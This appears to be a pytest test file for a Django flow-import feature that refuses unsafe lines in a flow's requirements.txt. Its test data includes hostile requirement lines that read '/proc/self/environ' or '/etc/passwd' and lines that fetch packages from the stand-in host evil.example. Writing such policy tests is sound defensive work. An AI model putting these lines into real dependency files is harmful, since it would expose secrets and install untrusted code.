"""A flow's requirements.txt is checked before pip or promptflow sees it: a refused line names the file and the
line, and nothing is stored or built."""

import io
import zipfile
from pathlib import Path

import pytest

from flows import importing
from flows.importing import FlowImportError, import_folder, import_zip
from flows.models import Flow, FlowVersion
from runtime.environments import EnvironmentBuildError

pytestmark = pytest.mark.django_db

FLOW_DAG = """\
inputs:
  question:
    type: string
outputs:
  answer:
    type: string
    reference: ${reply.output}
nodes:
- name: reply
  type: python
  source:
    type: code
    path: reply.py
  inputs:
    question: ${inputs.question}
"""
REPLY = "from promptflow.core import tool\n\n\n@tool\ndef reply(question: str) -> str:\n    return question\n"


def _zip(requirements: str, dag: str = FLOW_DAG, requirements_name: str = "requirements.txt") -> io.BytesIO:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("flow.dag.yaml", dag)
        archive.writestr("reply.py", REPLY)
        archive.writestr(requirements_name, requirements)
    buffer.seek(0)
    return buffer


@pytest.fixture
def nothing_runs(monkeypatch):
    """Building an environment (pip) or validating (promptflow) fails the test."""

    def forbidden(*args, **kwargs):
        raise AssertionError("pip or promptflow ran for a flow the policy refuses")

    monkeypatch.setattr(importing, "flow_environment", forbidden)
    monkeypatch.setattr(importing, "validate_flow", forbidden)


def _left_behind(root: Path) -> list[str]:
    flows = root / "flows"
    return sorted(p.name for p in flows.iterdir()) if flows.exists() else []


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("-r /proc/self/environ", "options that read other files are not allowed (-r, -c)"),
        ("--index-url https://evil.example/simple", "option '--index-url' is not allowed"),
        ("git+https://github.com/evil/package", "URLs and version-control links are not allowed"),
        ("-e .", "option '-e' is not allowed"),
        ("https://evil.example/pkg-1.0-py3-none-any.whl", "URLs and version-control links are not allowed"),
        ("pkg @ https://evil.example/pkg.whl", "direct references (name @ url) are not allowed"),
        ("../outside", "local paths, archives and file: URLs are not allowed"),
    ],
)
def test_it_refuses_a_zip_whose_requirements_break_the_policy(line, reason, nothing_runs, isolated_flow_dirs):
    """The refusal names requirements.txt, the line number and the line; no row, no snapshot, no pip."""
    with pytest.raises(FlowImportError) as caught:
        import_zip(_zip(f"python-slugify==8.0.4\n{line}\n"), "hostile", None)
    error = caught.value
    assert error.code == "RequirementsNotAllowed"
    assert (error.file, error.line) == ("requirements.txt", 2)
    assert str(error).startswith(f"requirements.txt, line 2: {line!r}: ")
    assert reason in str(error)
    assert not Flow.objects.exists() and not FlowVersion.objects.exists()
    assert _left_behind(isolated_flow_dirs) == []


def test_it_lists_every_refused_line(nothing_runs, isolated_flow_dirs):
    requirements = "-r /proc/self/environ\nrequests\n--index-url https://evil.example/simple\n-e .\n"
    with pytest.raises(FlowImportError) as caught:
        import_zip(_zip(requirements), "hostile", None)
    text = str(caught.value)
    assert text.startswith("requirements.txt, line 1: '-r /proc/self/environ': ")
    assert "\nAlso line 3: '--index-url https://evil.example/simple': " in text
    assert "\nAlso line 4: '-e .': " in text
    assert "line 2" not in text


def test_it_names_the_requirements_file_the_flow_names(nothing_runs, isolated_flow_dirs):
    dag = "environment:\n  python_requirements_txt: deps/prod.txt\n" + FLOW_DAG
    with pytest.raises(FlowImportError) as caught:
        import_zip(_zip("pyyaml\n\n-c /etc/passwd\n", dag, "deps/prod.txt"), "hostile", None)
    assert (caught.value.file, caught.value.line) == ("deps/prod.txt", 3)
    assert str(caught.value).startswith("deps/prod.txt, line 3: '-c /etc/passwd': ")


def test_it_checks_a_folder_import_too(nothing_runs, isolated_flow_dirs, tmp_path):
    folder = tmp_path / "source"
    folder.mkdir()
    (folder / "flow.dag.yaml").write_text(FLOW_DAG)
    (folder / "reply.py").write_text(REPLY)
    (folder / "requirements.txt").write_text("requests # fine\n-r /proc/self/environ\n")
    with pytest.raises(FlowImportError, match=r"^requirements.txt, line 2: '-r /proc/self/environ'"):
        import_folder(folder, "hostile", None)
    assert not Flow.objects.exists()


def test_an_admin_may_allow_other_package_sources_but_never_file_options(settings, monkeypatch, isolated_flow_dirs):
    """With FLOWDEPLOY_ALLOW_REQUIREMENT_SOURCES, a VCS link reaches the environment build; -r never does."""
    settings.FLOWDEPLOY_ALLOW_REQUIREMENT_SOURCES = True
    built = []

    def build(requirements):
        built.append(requirements)
        raise EnvironmentBuildError("pip could not install the requirements: (stopped by the test)")

    monkeypatch.setattr(importing, "flow_environment", build)
    with pytest.raises(FlowImportError) as caught:
        import_zip(_zip("git+https://github.com/owner/repo@v1#egg=repo\n"), "sources", None)
    assert caught.value.code == "RequirementsFailed"
    assert built == ["git+https://github.com/owner/repo@v1#egg=repo\n"]

    with pytest.raises(FlowImportError) as caught:
        import_zip(_zip("git+https://github.com/owner/repo@v1#egg=repo\n-r /proc/self/environ\n"), "sources", None)
    assert caught.value.code == "RequirementsNotAllowed" and caught.value.line == 2
    assert len(built) == 1
    assert not Flow.objects.exists()
